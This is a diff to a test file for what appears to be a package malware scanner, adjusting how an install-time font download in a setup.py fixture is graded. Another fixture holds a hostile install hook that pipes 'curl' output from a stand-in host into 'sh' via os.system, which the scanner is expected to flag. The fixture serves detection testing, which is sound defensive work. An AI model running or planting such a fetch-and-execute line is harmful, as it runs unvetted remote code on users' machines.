@@ -691,9 +691,11 @@ def test_third_held_out_batch_shapes() -> None:
              "    open('src/fonts.zip', 'wb').write(data)\n\n"
              "def main():\n    if 'test' in sys.argv:\n        return sp_call('test')\n    get_fonts()\n"
              "    setup(name='helperlib', version=version)\n\nmain()\n")
-    _, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup, "helperlib/__init__.py": "", **files}))
-    assert not [f for f in findings if f.endswith(":critical")], findings
-    assert findings == ["package.install-network:high"], findings  # the font download itself is real
+    data = sdist("helperlib", "0.1", {"setup.py": setup, "helperlib/__init__.py": "", **files})
+    result, findings = verdict(data)
+    assert result == "clean", findings
+    # the font download itself is real: reported, low (a fetch; beacons send, look up names or open sockets)
+    assert "package.install-network:low" in [f"{x.rule}:{x.severity.value}" for x in judge(facts_of(data))]
     runs = ("import os\nINSTALL = 'curl -LsSf https://x.example.net/i.sh | sh'\n\n"
             "def go():\n    os.system(INSTALL)\n\ngo()\n")
     assert verdict(_lib(runs))[0] != "clean"
